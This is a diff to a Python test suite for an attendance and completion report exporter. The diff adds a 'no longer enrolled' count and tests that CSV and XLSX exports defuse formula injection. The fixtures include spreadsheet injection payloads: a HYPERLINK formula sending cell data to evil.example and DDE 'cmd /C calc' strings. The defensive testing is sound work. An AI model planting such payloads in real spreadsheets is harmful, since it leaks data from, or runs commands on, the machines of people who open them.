@@ -62,11 +62,11 @@ EXPECTED_CSV_FR = (
     "François Ménard;francois@example.invalid;STEG;DSI;non;;non;;\r\n"
     "\r\n"
     "Institution;Inscrits;Présents – Séance 1;Présents – Séance 2 (annulée);Ont achevé;Taux d'achèvement (%);"
-    "Non lus\r\n"
-    "(non renseignée);1;0;0;0;0,0;0\r\n"
-    "Ministère de l'Industrie;1;1;0;1;100,0;0\r\n"
-    "STEG;1;0;0;0;0,0;0\r\n"
-    "Total;3;1;0;1;33,3;0\r\n"
+    "Non lus;Plus inscrits\r\n"
+    "(non renseignée);1;0;0;0;0,0;0;0\r\n"
+    "Ministère de l'Industrie;1;1;0;1;100,0;0;0\r\n"
+    "STEG;1;0;0;0;0,0;0;0\r\n"
+    "Total;3;1;0;1;33,3;0;0\r\n"
 ).replace('Zoé; "Z" d’Arçy', '"Zoé; ""Z"" d’Arçy"')
 
 
@@ -81,7 +81,7 @@ def test_csv_english_with_commas(store: Store) -> None:
     lines = text.split("\r\n")
     assert lines[0] == "Name,Email,Institution,Department,Séance 1,Séance 2 (cancelled),Course completed,Completed on,Read status"
     assert lines[2] == "Hélène Lefèvre,helene@example.invalid,Ministère de l'Industrie,études & développement,yes,,yes,2020-12-10 12:33,"
-    assert lines[-2] == "Total,3,1,0,1,33.3,0"
+    assert lines[-2] == "Total,3,1,0,1,33.3,0,0"
 
 
 def test_xlsx_read_back(store: Store) -> None:
@@ -106,13 +106,13 @@ def test_json_follows_its_schema(store: Store) -> None:
     data = json.loads(render_report(store, "json"))
     jsonschema.Draft202012Validator.check_schema(schema())
     jsonschema.Draft202012Validator(schema()).validate(data)
-    assert data["schema_version"] == "1.0"
+    assert data["schema_version"] == "1.1"
     assert data["snapshot"]["complete"] is True and data["snapshot"]["taken_at"] == "2021-01-21T09:30:00Z"
     helene = next(p for p in data["participants"] if p["user_id"] == 5)
     assert helene["attended"] == {"seance-1": True, "seance-2": None}
     assert helene["time_completed"] == "2020-12-10T12:33:20+01:00"
     assert data["totals"] == {"enrolled": 3, "attended": {"seance-1": 1, "seance-2": 0}, "completed": 1,
-                              "completion_rate": 0.3333, "failed": 0}
+                              "completion_rate": 0.3333, "failed": 0, "no_access": 0}
 
 
 def test_html_is_self_contained_printable_and_french(store: Store) -> None:
@@ -182,3 +182,117 @@ def test_cli_writes_reports_owner_only(workdir: Path, capsys: pytest.CaptureFixt
     assert "unchanged" in capsys.readouterr().out
     assert main(["report", "completion", "--run", "99"]) == 2
     assert "run 99 has no completion snapshot" in capsys.readouterr().err
+
+
+# ------------------------------------------------------------------------- hostile profile text
+
+HOSTILE = {
+    "fullname": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
+    "email": "+33@example.invalid",
+    "institution": "-2+3+cmd|' /C calc'!A0",
+    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def _store_with(tmp_path: Path, rows: list[ParticipantRow], name: str = "s.sqlite3") -> Store:
+    s = Store(tmp_path / name)
+    run = s.start_run("pull", TAKEN)
+    failed = any(r.status == "failed" for r in rows)
+    save_snapshot(s, Snapshot(run, "dgidt-ia-2020", "Cycle IA", "Africa/Tunis", 2, TAKEN, "calls",
+                              complete=not failed, completion_enabled=True, sessions=SESSIONS), rows)
+    s.finish_run(run, "partial" if failed else "ok", int(failed))
+    return s
+
+
+def _hostile_rows() -> list[ParticipantRow]:
+    absent = {"seance-1": Attendance(False), "seance-2": Attendance(None)}
+    return [
+        ParticipantRow(8, "evil", "", HOSTILE["fullname"], HOSTILE["email"], HOSTILE["institution"],
+                       HOSTILE["department"], completed=False, attendance=absent),
+        ParticipantRow(9, "tab", "", "\tTab", "cr@example.invalid", "\rCR", "=1+1", completed=False,
+                       attendance=absent),
+    ]
+
+
+def test_csv_defuses_formulas_from_profiles(tmp_path: Path) -> None:
+    """Cells starting with = + - @ tab or CR get a leading ' (OWASP); read back, nothing else changes."""
+    import csv
+
+    with _store_with(tmp_path, _hostile_rows()) as s:
+        text = render_report(s, "csv").decode("utf-8-sig")
+    table = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    evil = next(r for r in table if r and r[0].startswith("'=HYPERLINK"))
+    assert evil[:4] == ["'" + HOSTILE[k] for k in ("fullname", "email", "institution", "department")]
+    tab = next(r for r in table if r and r[0] == "'\tTab")
+    assert tab[2:4] == ["'\rCR", "'=1+1"]
+    institutions = [r[0] for r in table if r]
+    assert "'" + HOSTILE["institution"] in institutions and "'\rCR" in institutions
+    # No cell anywhere still starts with a formula character.
+    assert not [c for r in table for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_xlsx_keeps_profile_formulas_as_text(tmp_path: Path) -> None:
+    """Read back with openpyxl: every hostile value is a plain string cell (type s), never a formula (type f)."""
+    with _store_with(tmp_path, _hostile_rows()) as s:
+        wb = openpyxl.load_workbook(io.BytesIO(render_report(s, "xlsx")))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    by_value = {c.value: c for c in cells}
+    for value in (*HOSTILE.values(), "\tTab", "=1+1"):
+        assert by_value[value].data_type == "s", value  # the exact text, no added quote
+        assert by_value[value].quotePrefix  # Excel keeps it text even when the cell is edited
+    assert by_value["Nom"].data_type == "s" and not by_value["Nom"].quotePrefix  # ordinary text untouched
+
+
+# -------------------------------------------------------------------------------- no longer enrolled
+
+
+def test_participants_no_longer_enrolled_are_counted_apart(tmp_path: Path) -> None:
+    """no_access rows leave enrolled, attended, completed and the rate; failed rows stay counted, flagged."""
+    absent = {"seance-1": Attendance(False), "seance-2": Attendance(None)}
+    rows = [
+        *_rows(failed=True),  # Hélène (complete), François, Zoé failed (no institution)
+        ParticipantRow(10, "gone", "", "Ghislaine Partie", "gone@example.invalid", "STEG", "DSI",
+                       status="no_access", completed=True, error="usernotenroled",
+                       attendance={"seance-1": Attendance(True), "seance-2": Attendance(None)}),
+        ParticipantRow(11, "gone2", "", "Gaston Parti", "gone2@example.invalid", "Poste", "",
+                       status="no_access", error="usernotenroled", attendance=absent),
+    ]
+    with _store_with(tmp_path, rows) as s:
+        report = build_report(s)
+        data = json.loads(render_report(s, "json"))
+        text = render_report(s, "csv", lang="en", delimiter=",").decode("utf-8-sig")
+        inst = openpyxl.load_workbook(io.BytesIO(render_report(s, "xlsx", lang="en")))["By institution"]
+    totals = report.totals
+    counts = (totals.enrolled, totals.attended, totals.completed, totals.failed, totals.no_access)
+    assert counts == (3, (1, 0), 1, 1, 2)
+    assert totals.rate == pytest.approx(1 / 3)
+    steg = next(i for i in report.institutions if i.institution == "STEG")
+    assert (steg.enrolled, steg.attended[0], steg.completed, steg.no_access, steg.rate) == (1, 0, 0, 1, 0.0)
+    poste = next(i for i in report.institutions if i.institution == "Poste")
+    assert (poste.enrolled, poste.no_access, poste.rate) == (0, 1, None)
+    assert len(report.participants) == 5  # still listed, with their status
+
+    jsonschema.Draft202012Validator(schema()).validate(data)
+    assert data["totals"] == {"enrolled": 3, "attended": {"seance-1": 1, "seance-2": 0}, "completed": 1,
+                              "completion_rate": 0.3333, "failed": 1, "no_access": 2}
+    lines = text.split("\r\n")
+    assert lines[lines.index("") + 1].endswith(",Not read,No longer enrolled")
+    assert "STEG,1,0,0,0,0.0,0,1" in lines and "Total,3,1,0,1,33.3,1,2" in lines
+    header = [c.value for c in inst[2]]  # row 1: the incomplete-snapshot banner
+    total = [c.value for c in inst[inst.max_row]]
+    assert header[-1] == "No longer enrolled" and total[1] == 3 and total[-1] == 2 and total[-2] == 1
+
+
+def test_schema_1_0_documents_still_validate() -> None:
+    """no_access is optional in the schema: a 1.0 document (without it) still validates against 1.1."""
+    counts = {"enrolled": 1, "attended": {}, "completed": 0, "completion_rate": 0.0, "failed": 0}
+    doc = {
+        "schema_version": "1.0",
+        "programme": {"id": "p", "title": "P", "timezone": "Africa/Tunis"},
+        "snapshot": {"run_id": 1, "taken_at": "2021-01-21T09:30:00Z", "source": "calls", "complete": True,
+                     "completion_enabled": True, "course_id": 2, "notes": []},
+        "sessions": [], "since": {"date": None, "completed": 0}, "participants": [],
+        "institutions": [{"institution": "STEG", **counts}], "totals": counts,
+    }
+    jsonschema.Draft202012Validator(schema()).validate(doc)
